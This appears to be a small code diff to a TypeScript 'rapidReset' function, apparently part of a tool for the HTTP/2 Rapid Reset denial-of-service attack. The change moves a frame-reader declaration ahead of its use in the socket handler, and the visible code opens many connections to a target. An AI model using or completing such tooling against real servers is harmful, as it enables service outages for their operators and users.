@@ -43,6 +43,7 @@ export async function rapidReset(target: string, path: string, total: number, ma
   while (opened < total && connections < maxConnections) {
     connections++;
     const socket = connectTcp(port, host);
+    const reader = new FrameReader();
     let closed = false;
     socket.on('error', () => undefined);
     let onClosed: () => void = () => undefined;
@@ -55,7 +56,6 @@ export async function rapidReset(target: string, path: string, total: number, ma
       for (const f of reader.push(chunk)) if (f.type === Frame.GOAWAY) markClosed();
     });
     socket.once('close', markClosed);
-    const reader = new FrameReader();
     await new Promise<void>((resolve) => {
       socket.once('connect', () => resolve());
       socket.once('close', () => resolve());
